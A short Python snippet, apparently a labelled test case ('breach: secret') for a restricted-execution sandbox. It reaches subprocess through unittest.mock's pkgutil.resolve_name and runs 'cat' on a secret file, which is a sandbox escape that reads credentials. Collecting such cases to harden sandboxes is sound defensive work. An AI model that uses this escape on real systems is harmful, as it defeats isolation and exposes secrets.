# pkgutil, which unittest.mock holds, resolves any name.
# breach: secret
import unittest.mock
unittest.mock.pkgutil.resolve_name("subprocess:check_output")(["cat", SECRET_FILE])
